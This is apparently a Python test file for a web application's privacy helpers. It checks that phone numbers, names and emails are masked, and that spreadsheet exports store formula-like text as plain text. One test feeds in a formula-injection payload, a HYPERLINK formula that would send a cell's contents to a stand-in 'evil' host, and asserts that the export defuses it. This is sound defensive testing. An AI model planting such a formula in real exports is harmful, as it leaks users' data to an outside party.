"""Masking of personal information, and exports that cannot carry a live formula."""

import io

import pytest
from openpyxl import load_workbook

from core.exports import table_response
from core.privacy import mask_email, mask_name, mask_phone


@pytest.mark.parametrize(
    ("phone", "masked"),
    [("13812345678", "138****5678"), ("87654321", "****4321"), ("2345678", "****678"), ("12345", "***45"), ("", "")],
)
def test_phone_numbers_show_at_most_their_last_four_digits(phone, masked):
    assert mask_phone(phone) == masked


def test_names_and_emails_keep_only_their_first_character():
    assert mask_name("王芳") == "王*" and mask_email("wang.fang@example.cn") == "w********@example.cn"


def test_text_starting_like_a_formula_is_exported_as_text(app):
    rows = [{"title": '=HYPERLINK("http://evil/?"&L2,"x")'}, {"title": "-1+2"}, {"title": "普通标题"}]
    with app.test_request_context():
        columns = [("标题", lambda r: r["title"])]
        response = table_response(filename="t", columns=columns, rows=rows, fmt="xlsx", document=None)
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, 5)]
    assert [cell.data_type for cell in cells] == ["s", "s", "s"]
    assert cells[0].value.startswith("'=") and cells[2].value == "普通标题"
